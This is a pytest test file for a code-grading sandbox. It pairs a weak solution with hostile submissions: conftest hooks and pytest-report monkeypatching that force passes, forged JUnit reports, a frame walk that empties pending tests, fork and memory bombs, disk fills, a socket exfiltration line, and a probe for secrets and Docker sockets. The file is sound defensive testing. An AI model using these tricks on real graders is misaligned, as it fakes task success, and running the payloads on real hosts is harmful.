"""Hostile submissions: each pairs a weak solution with one attack on the grader.

The weak solution honestly earns 10 of 100 on the tiny challenge (only slugify("") == ""
passes). Every attack below would turn that into 100 if it worked; it must earn exactly the
honest 10, raise no false flag, and leave the host as it was.
"""

from __future__ import annotations

import py_compile
import textwrap
from pathlib import Path

import pytest

from runner.pipeline import grade_submission
from runner.results import Result, Status
from runner.sandbox import Engine, ImageRef
from runner.spec import load_challenge
from tests.conftest import SUBMISSIONS, TINY

pytestmark = pytest.mark.docker

WEAK = """\
def add(a, b):
    return 0


def slugify(text):
    return ""
"""
HONEST_WEAK_SCORE = 10

# If pytest ever loaded it, this hook would report every test as passed.
FORCE_PASS_HOOK = """\
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None
"""

# If Python ever ran it, this would make every test report passed.
PATCH_REPORTS = """\
import _pytest.reports

_init = _pytest.reports.TestReport.__init__


def _passed(self, *args, **kwargs):
    _init(self, *args, **kwargs)
    self.outcome = "passed"
    self.longrepr = None


_pytest.reports.TestReport.__init__ = _passed
"""

ALL_PASSED_JUNIT = """\
import glob


def forge():
    cases = "".join(
        f'<testcase classname="test_tiny{c}" name="{n}" time="0.01"/>'
        for c, n in [("", "test_add"), ("", "test_add_negative"),
                     (".TestSlugify", "test_words"), (".TestSlugify", "test_empty")])
    for path in glob.glob("/grader/out/*.xml"):
        with open(path, "w") as f:
            f.write(f'<testsuites><testsuite name="pytest">{cases}</testsuite></testsuites>')
"""

ATTACKS: dict[str, dict[str, str]] = {
    "conftest-forces-pass": {"conftest.py": FORCE_PASS_HOOK},
    "tests-conftest-forces-pass": {"tests/conftest.py": FORCE_PASS_HOOK, "tests/__init__.py": ""},
    "pytest-ini-disables-tests": {"pytest.ini": "[pytest]\naddopts = --collect-only -p no:junitxml\n"},
    "pyproject-pytest-options": {"pyproject.toml": '[tool.pytest.ini_options]\naddopts = "--collect-only"\n'},
    "setup-cfg-and-tox-ini": {"setup.cfg": "[tool:pytest]\naddopts = --collect-only\n",
                              "tox.ini": "[pytest]\naddopts = --collect-only\n"},
    "sitecustomize": {"sitecustomize.py": PATCH_REPORTS, "usercustomize.py": PATCH_REPORTS},
    "pth-file": {"evil.pth": "import evil_patch\n", "evil_patch.py": PATCH_REPORTS},
    "entry-point-plugin": {
        "evil-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
        "evil-1.0.dist-info/entry_points.txt": "[pytest11]\nevil = evil_plugin\n",
        "evil_plugin.py": FORCE_PASS_HOOK,
    },
    "shadows-pytest": {"pytest.py": ALL_PASSED_JUNIT + "\n\ndef main(args=None):\n    forge()\n    return 0\n"},
    "shadows-pytest-timeout": {"pytest_timeout.py": FORCE_PASS_HOOK},
    "atexit-rewrites-report": {"solution.py": WEAK + "\n" + ALL_PASSED_JUNIT
                               + "\nimport atexit\natexit.register(forge)\n"},
    "daemon-thread-rewrites-report": {"solution.py": WEAK + "\n" + ALL_PASSED_JUNIT + textwrap.dedent("""
        import threading, time


        def _keep_forging():
            while True:
                forge()
                time.sleep(0.001)


        threading.Thread(target=_keep_forging, daemon=True).start()
    """)},
}


def write_tree(root: Path, files: dict[str, str]) -> Path:
    for name, content in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content)
    return root


def grade(engine: Engine, image: ImageRef, tree: Path, out: Path) -> Result:
    return grade_submission(challenge=load_challenge(TINY), source=str(tree), out_dir=out,
                            engine=engine, image=image)


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_attack_earns_only_the_honest_score(attack: str, engine: Engine, python_image: ImageRef,
                                            tmp_path: Path) -> None:
    tree = write_tree(tmp_path / "submission", {"solution.py": WEAK, **ATTACKS[attack]})
    result = grade(engine, python_image, tree, tmp_path / "out")
    assert (result.status, result.score) == (Status.GRADED, HONEST_WEAK_SCORE), result.reason
    # A module named like an installed one is not imported in its place, but it is reported.
    shadowing = attack in ("shadows-pytest", "shadows-pytest-timeout")
    assert [f.code for f in result.flags] == (["shadowed-modules"] if shadowing else [])


# Candidate code the hidden tests import runs inside the test process: there it can reach
# pytest itself. The canary the grader adds to every run is built to fail; such an attack
# makes it pass, so the score is 0 and the run is flagged.
# Walks the call stack up to pytest's current item and empties every test still to run.
EMPTY_THE_TESTS = """\
import sys


def _empty_the_tests():
    frame = sys._getframe()
    while frame is not None:
        item = frame.f_locals.get("item")
        if item is not None and hasattr(item, "session"):
            for other in item.session.items:
                other._obj = lambda *args, **kwargs: None
            return
        frame = frame.f_back
"""

IN_PROCESS_ATTACKS = {
    "patch-reports-from-the-solution": PATCH_REPORTS,
    # Set off by the first call, from a test: the tests before it are spared.
    "frame-walk-empties-the-tests": EMPTY_THE_TESTS + """

def add(a, b):
    _empty_the_tests()
    return 0
""",
}


@pytest.mark.parametrize("attack", sorted(IN_PROCESS_ATTACKS))
def test_attack_from_inside_the_test_process_is_caught_by_the_canary(
        attack: str, engine: Engine, python_image: ImageRef, tmp_path: Path) -> None:
    tree = write_tree(tmp_path / "submission", {"solution.py": WEAK + IN_PROCESS_ATTACKS[attack]})
    result = grade(engine, python_image, tree, tmp_path / "out")
    assert (result.status, result.score) == (Status.GRADED, 0), result.reason
    [flag] = [f for f in result.flags if f.code == "tampering-suspected"]
    assert "was reported passed" in flag.evidence


def test_skip_at_import_scores_nothing_and_is_flagged(engine: Engine, python_image: ImageRef,
                                                       tmp_path: Path) -> None:
    solution = "import pytest\npytest.skip('nothing to see', allow_module_level=True)\n" + WEAK
    result = grade(engine, python_image, write_tree(tmp_path / "s", {"solution.py": solution}), tmp_path / "out")
    assert result.score == 0
    # The module is skipped before its tests exist: they are reported missing.
    assert "missing-tests" in [f.code for f in result.flags]


def test_bytecode_shadowing_the_source_is_stripped_and_flagged(engine: Engine, python_image: ImageRef,
                                                               tmp_path: Path) -> None:
    tree = write_tree(tmp_path / "s", {"solution.py": WEAK})
    # A correct solution compiled where Python would look first, and a sourceless module.
    correct = tmp_path / "correct" / "solution.py"
    correct.parent.mkdir()
    correct.write_text((SUBMISSIONS / "tiny-correct" / "solution.py").read_text())
    py_compile.compile(str(correct), cfile=str(tree / "__pycache__" / "solution.cpython-311.pyc"))
    py_compile.compile(str(correct), cfile=str(tree / "helpers.pyc"))
    result = grade(engine, python_image, tree, tmp_path / "out")
    assert result.score == HONEST_WEAK_SCORE
    [stripped] = [f for f in result.flags if f.code == "stripped-files"]
    assert "helpers.pyc" in stripped.evidence
    assert "__pycache__" in stripped.evidence


def test_honest_solution_with_its_own_pytest_setup_scores_full_without_flags(
        engine: Engine, python_image: ImageRef, tmp_path: Path) -> None:
    tree = write_tree(tmp_path / "s", {
        "solution.py": (SUBMISSIONS / "tiny-correct" / "solution.py").read_text(),
        "conftest.py": "import pytest\n\n\n@pytest.fixture\ndef sample():\n    return 'Hello, World'\n",
        "pyproject.toml": '[project]\nname = "mine"\n\n[tool.pytest.ini_options]\ntestpaths = ["tests"]\naddopts = "-q"\n',
        "pytest.ini": "[pytest]\naddopts = -x\n",
        "tests/test_mine.py": "from solution import slugify\n\n\ndef test_mine(sample):\n    assert slugify(sample)\n",
    })
    result = grade(engine, python_image, tree, tmp_path / "out")
    assert (result.status, result.score, result.flags) == (Status.GRADED, 100, [])


# --- resource attacks through the whole pipeline: contained, reported, nothing leaks ----------

RESOURCE_ATTACKS: dict[str, tuple[str, set[str]]] = {
    # name: (code run when slugify is called, flags the reviewer must see)
    "fork-bomb": ("import os\n    while True:\n        try:\n            os.fork()\n        except OSError:\n            pass", {"pid-limit"}),
    # Stops at its first refused fork and goes on as if nothing happened: only the kernel saw it.
    "fork-until-refused": (("import os, time\n    children = []\n    try:\n        while True:\n"
                           "            pid = os.fork()\n            if pid == 0:\n                time.sleep(0.5)\n"
                           "                os._exit(0)\n            children.append(pid)\n    except OSError:\n"
                           "        pass\n    for pid in children:\n        os.waitpid(pid, 0)\n    return text + '!'"),
                           {"pid-limit"}),
    "memory-bomb": ("hoard = []\n    while True:\n        hoard.append(bytearray(2**24))", {"memory-limit"}),
    "disk-fill": ("with open('/tmp/fill', 'wb') as f:\n        while True:\n            f.write(b'0' * 2**20)", {"disk-limit"}),
    "output-flood": ("import os\n    while True:\n        os.write(1, b'x' * 65536)", {"output-truncated"}),
    "network-exfiltration": ("import socket\n    socket.create_connection(('1.1.1.1', 443), timeout=2).sendall(b'secret')", set()),
    "ignores-signals-and-sleeps": ("import signal, time\n    for s in (signal.SIGINT, signal.SIGTERM):\n        signal.signal(s, signal.SIG_IGN)\n    while True:\n        time.sleep(1)", {"timeout"}),
}


@pytest.mark.parametrize("attack", sorted(RESOURCE_ATTACKS))
def test_resource_attack_is_contained_and_reported(attack: str, engine: Engine, python_image: ImageRef,
                                                   tmp_path: Path) -> None:
    from tests.conftest import tiny_challenge_with

    body, expected_flags = RESOURCE_ATTACKS[attack]
    solution = "import re\n\n\ndef add(a, b):\n    return a + b\n\n\ndef slugify(text):\n    " + body + "\n"
    tree = write_tree(tmp_path / "s", {"solution.py": solution})
    challenge = tiny_challenge_with(tmp_path, timeout_seconds=8, grace_seconds=2, test_timeout_seconds=4,
                                    memory_mb=128, pids=64, output_kb=64, scratch_mb=16)
    result = grade_submission(challenge=load_challenge(challenge), source=str(tree), out_dir=tmp_path / "out",
                              engine=engine, image=python_image)
    # add() is honest: its 60 points stand whenever a report exists; slugify never scores.
    assert result.score in (0, 60)
    assert result.score == (60 if (tmp_path / "out" / "junit.xml").exists() else 0)
    assert expected_flags <= {f.code for f in result.flags}
    assert result.timings.sandbox_seconds < 30  # the deadline held
    assert len((tmp_path / "out" / "output.log").read_bytes()) <= 64 * 1024 + 100


@pytest.mark.parametrize(("attack", "flag"), [
    # No space left: files of 4 MB each fill the 16 MB scratch space.
    (("for i in range(100):\n    with open(f'/tmp/fill{i}', 'wb') as f:\n        for _ in range(4):\n"
     "            f.write(b'0' * 2**20)\n"), "disk-limit"),
    # File too large: one file past the 8 MB file-size limit.
    ("with open('/tmp/big', 'wb') as f:\n    for _ in range(12):\n        f.write(b'0' * 2**20)\n", "disk-limit"),
])
def test_limit_hit_while_the_tests_are_collected_is_reported(attack: str, flag: str, engine: Engine,
                                                             python_image: ImageRef, tmp_path: Path) -> None:
    from tests.conftest import tiny_challenge_with

    tree = write_tree(tmp_path / "s", {"solution.py": attack + WEAK})
    challenge = tiny_challenge_with(tmp_path, scratch_mb=16, file_mb=8)
    result = grade_submission(challenge=load_challenge(challenge), source=str(tree), out_dir=tmp_path / "out",
                              engine=engine, image=python_image)
    assert result.score == 0
    assert flag in {f.code for f in result.flags}


def test_candidate_code_cannot_add_files_to_the_output_folder(engine: Engine, python_image: ImageRef,
                                                             tmp_path: Path) -> None:
    """The output folder lives on the host's disk: only the report's own file, capped by the
    file-size limit, may be written there, so filling it cannot fill the host."""
    filler = """\
import os


def slugify(text):
    created = 0
    for i in range(20):
        try:
            with open(f"/grader/out/fill-{i}.xml", "wb") as f:
                f.write(b"0" * 2**20)
            created += 1
        except OSError:
            pass
    raise RuntimeError(f"created {created} files in the output folder")
"""
    tree = write_tree(tmp_path / "s", {"solution.py": WEAK.split("def slugify")[0] + filler})
    result = grade(engine, python_image, tree, tmp_path / "out")
    slugify_tests = [t for t in result.tests if "slugify" in t.name.lower()]
    assert slugify_tests
    assert all("created 0 files in the output folder" in t.message for t in slugify_tests)


def test_the_sandbox_holds_no_secret_of_the_host_and_no_docker_socket(
        engine: Engine, python_image: ImageRef, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ASSESS_FAKE_SECRET", "hunter2-token")  # what a CI or an operator might hold
    probe = """\
import glob, os


def slugify(text):
    names = ",".join(sorted(os.environ))
    secret = any("hunter2" in value for value in os.environ.values())
    sockets = [path for pattern in ("/run/**/*.sock", "/var/run/**/*.sock", "/tmp/**/*.sock", "/*.sock")
               for path in glob.glob(pattern, recursive=True)]
    raise RuntimeError(f"FOUND names={names} secret={secret} sockets={sorted(set(sockets))}")
"""
    tree = write_tree(tmp_path / "s", {"solution.py": WEAK.split("def slugify")[0] + probe})
    result = grade(engine, python_image, tree, tmp_path / "out")
    [message] = {t.message.splitlines()[0] for t in result.tests if "slugify" in t.name.lower()}
    found = dict(part.split("=", 1) for part in message.split("FOUND ", 1)[1].split(" ", 2))
    assert found["secret"] == "False"
    assert found["sockets"] == "[]"
    # Docker's, the image's (sandboxes/python/Dockerfile), the grader's and pytest's own.
    assert set(found["names"].split(",")) <= {
        "PATH", "HOSTNAME", "HOME", "LC_CTYPE", "PIP_DISABLE_PIP_VERSION_CHECK", "PYTHONDONTWRITEBYTECODE",
        "PYTHONUNBUFFERED", "PYTEST_DISABLE_PLUGIN_AUTOLOAD", "PYTEST_VERSION", "PYTEST_CURRENT_TEST"}, found["names"]
